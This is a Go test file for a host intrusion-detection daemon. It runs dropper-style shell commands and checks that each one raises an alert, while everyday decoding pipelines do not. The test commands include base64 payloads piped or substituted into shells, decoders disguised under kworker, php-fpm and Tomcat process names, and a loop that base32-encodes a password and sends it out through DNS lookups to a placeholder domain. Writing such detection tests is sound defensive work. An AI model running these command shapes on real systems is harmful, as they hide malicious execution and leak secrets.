package abuse

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base32"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/big"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestKernelDecodedCodeRan needs root and the kernel audit. Under the
// shipped policy, nobody runs the dropper shapes of issue 25, each of
// which must raise a critical alert, and the everyday pipelines a CI job
// runs on decoded data (a decoder into gunzip, zcat, python3 -m json.tool,
// jq, openssl x509, a variable), none of which may. After each benign case
// a sentinel decode is awaited: alerts are written in event order, so once
// it is there every alert of the case is too.
func TestKernelDecodedCodeRan(t *testing.T) {
	f := setup(t)
	d := startDaemonText(t, f, shippedPolicy(t))
	dir := f.attackDir

	// Files the cases decode: a script, a tar.gz, JSON, a DER certificate,
	// a password, a secret; a renamed copy of base64 and a stand-in for
	// dig (a shell script: what it is called is what the policy reads).
	var tgz bytes.Buffer
	zw := gzip.NewWriter(&tgz)
	tw := tar.NewWriter(zw)
	tw.WriteHeader(&tar.Header{Name: "hello.txt", Mode: 0o644, Size: 6})
	tw.Write([]byte("hello\n"))
	tw.Close()
	zw.Close()
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "ci"}, NotBefore: time.Now(), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	b64 := base64.StdEncoding.EncodeToString
	files := map[string]string{
		"t.b64":   b64([]byte("echo decoded-and-run >/dev/null\n")) + "\n",
		"a.b64":   b64(tgz.Bytes()) + "\n",
		"j.b64":   b64([]byte(`{"a": [1, 2]}`)) + "\n",
		"c.b64":   b64(der) + "\n",
		"p.b64":   b64([]byte("hunter2")) + "\n",
		"secret":  "db_password=" + base32.StdEncoding.EncodeToString([]byte("hunter2hunter2")) + "\n",
		"dig":     "#!/bin/sh\nsleep 0.2\n",
		"kit.b64": b64([]byte("echo kit >/dev/null\n")) + "\n",
	}
	for name, body := range files {
		mode := os.FileMode(0o644)
		if name == "dig" {
			mode = 0o755
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), mode); err != nil {
			t.Fatal(err)
		}
	}
	// A renamed copy of base64 in /dev/shm, nobody's own.
	if out, err := asNobody("cp", "/usr/bin/base64", filepath.Join(dir, "b6")).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v\n%s", err, out)
	}
	py := "/usr/bin/python3"

	// Each runs once as nobody and must raise sig at imp.
	type decodeCase struct {
		name  string
		shell string // runs cmd; sh unless bash is needed
		cmd   string
		sig   string
		imp   string
	}
	critical := func(name, shell, cmd, sig string) decodeCase { return decodeCase{name, shell, cmd, sig, "critical"} }
	cases := []decodeCase{
		// The program is descriptor 3, the decoder's pipe; standard
		// input is /dev/null.
		critical("program_on_fd3", "sh", "(cat t.b64; sleep 0.6) | base64 -d | sh /dev/fd/3 3<&0 </dev/null", "decoder_piped_to_interpreter"),
		// 40 children first: the relay search is bounded by cost, not by
		// a count they fill.
		critical("filter_behind_40_sleeps", "sh", "for i in $(seq 40); do sleep 2 & done; (cat t.b64; sleep 0.6) | base64 -d | tr c c | sh -s", "decoder_piped_to_interpreter"),
		critical("python_module_decoder", "sh", "(cat t.b64; sleep 0.3) | "+py+" -m base64 -d | sh", "decoder_piped_to_interpreter"),
		critical("renamed_copy_piped_to_sh", "sh", "(cat t.b64; sleep 0.3) | ./b6 -d | sh", "decoder_piped_to_interpreter"),
		critical("command_substitution", "bash", `bash -c "$( (cat t.b64; sleep 0.3) | base64 -d)"; true`, "decoded_command_executed"),
		critical("command_substitution_quick", "bash", `bash -c "$(base64 -d kit.b64)"; true`, "decoded_command_executed"),
		critical("process_substitution", "bash", "bash <( (cat t.b64; sleep 0.3) | base64 -d); true", "decoded_command_executed"),
		critical("base32_fold_loop_to_dns", "sh", "base32 -w0 secret | fold -w 8 | while read l; do ./dig $l.x.invalid; done", "encoder_then_network"),
		critical("decoder_under_php_fpm", "bash", `exec -a "php-fpm: pool www" sh -c 'base64 -d t.b64 >/dev/null; true'`, "decoder_under_server"),
		// Decoders by behaviour and by context: the signature and
		// importance the issue asks for.
		{"gpg_enarmor", "sh", "gpg --batch --enarmor < t.b64 > /dev/null 2>&1; true", "data_encoder_exec", "high"},
		{"python_nested_decode_call", "sh", py + ` -c 'import codecs;print(codecs.decode(open("t.b64").read(),"base64"))' > /dev/null; true`, "interpreter_inline_decode", "high"},
		critical("decoder_under_tomcat", "bash", `exec -a "java org.apache.catalina.startup.Bootstrap start" sh -c 'base64 -d t.b64 >/dev/null; true'`, "decoder_under_app_server"),
	}
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			marker := fmt.Sprintf("dec-%s-%d", tt.name, time.Now().UnixNano())
			cmd := asNobody(tt.shell, "-c", tt.cmd, marker)
			cmd.Dir = dir
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%s: %v\n%s", tt.cmd, err, out)
			}
			got := d.sequenceAlerts(t, marker, tt.sig)
			a, ok := findSig(got, tt.sig)
			if !ok {
				t.Fatalf("%s raised %v, want %s", tt.cmd, got, tt.sig)
			}
			v, why := a.pipe()
			t.Logf("%s %s: pipe %q: %s", tt.sig, a.Signature.Importance, v, why)
			if a.Signature.Importance != tt.imp {
				t.Errorf("%s is %s (pipe %q: %s), want %s", tt.sig, a.Signature.Importance, v, why, tt.imp)
			}
		})
	}

	// A fexecve'd copy of base64, run as "kworker", piped to sh: the file,
	// run through /proc/PID/fd/N, is identified through the holder's
	// descriptor as base64, so it counts as a decoder in the pipe
	// sequence: critical decoder_piped_to_interpreter.
	t.Run("fexecve_decoder_piped_to_sh", func(t *testing.T) {
		marker := fmt.Sprintf("dec-fexecve-%d", time.Now().UnixNano())
		out, err := helper(f, "fdpipe", filepath.Join(dir, marker), filepath.Join(dir, "t.b64"), marker).CombinedOutput()
		if err != nil {
			t.Fatalf("fdpipe: %v\n%s", err, out)
		}
		got := d.sequenceAlerts(t, marker, "decoder_piped_to_interpreter")
		for _, a := range got {
			t.Logf("%s %s", a.Signature.Name, a.Signature.Importance)
		}
		a, ok := findSig(got, "decoder_piped_to_interpreter")
		if !ok || a.Signature.Importance != "critical" {
			t.Errorf("fexecve'd decoder piped to sh raised %v, want a critical decoder_piped_to_interpreter", got)
		}
	})

	benign := []struct{ name, cmd string }{
		{"gunzip_tar", "base64 -d a.b64 | gunzip | tar tv >/dev/null"},
		{"zcat", "base64 -d a.b64 | zcat | tar t >/dev/null"},
		{"json_tool", "base64 -d j.b64 | " + py + " -m json.tool >/dev/null"},
		{"jq", "base64 -d j.b64 | jq . >/dev/null"},
		{"openssl_x509", "base64 -d c.b64 | openssl x509 -inform DER -noout -subject >/dev/null"},
		{"password_variable", `PASS=$(base64 -d p.b64); printf %s "$PASS" | wc -c >/dev/null`},
		{"decode_to_file_then_script", "base64 -d t.b64 > run.sh; sh run.sh"},
	}
	for _, tt := range benign {
		t.Run(tt.name, func(t *testing.T) {
			marker := fmt.Sprintf("dec-%s-%d", tt.name, time.Now().UnixNano())
			// Files of its own, so that the decoder's alert is no repeat
			// of another case's (repeats coalesce).
			line := tt.cmd
			for _, name := range []string{"a.b64", "j.b64", "c.b64", "p.b64", "t.b64"} {
				own := tt.name + "-" + name
				if err := os.WriteFile(filepath.Join(dir, own), []byte(files[name]), 0o644); err != nil {
					t.Fatal(err)
				}
				line = strings.ReplaceAll(line, name, own)
			}
			cmd := asNobody("sh", "-c", line, marker)
			cmd.Dir = dir
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%s: %v\n%s", line, err, out)
			}
			sentinel := "sentinel-" + marker
			exec.Command("runuser", "-u", "nobody", "--", "base64", "-d", "/dev/null", sentinel).Run()
			d.sequenceAlerts(t, sentinel, "data_encoder_exec")
			var got []alert
			for _, a := range d.alertsFor(marker) {
				if !strings.Contains(a.line, sentinel) {
					got = append(got, a)
				}
			}
			if !hasAll(got, []string{"data_encoder_exec"}) {
				t.Errorf("%s raised %v, want data_encoder_exec", tt.cmd, names(got))
			}
			for _, a := range got {
				var p pipeAlert
				if err := json.Unmarshal([]byte(a.line), &p); err != nil {
					t.Fatalf("alert is not JSON: %v\n%s", err, a.line)
				}
				if p.Signature.Importance == "critical" {
					t.Errorf("%s raised the critical %s:\n%s", tt.cmd, a.Signature.Name, a.line)
				}
			}
		})
	}
}
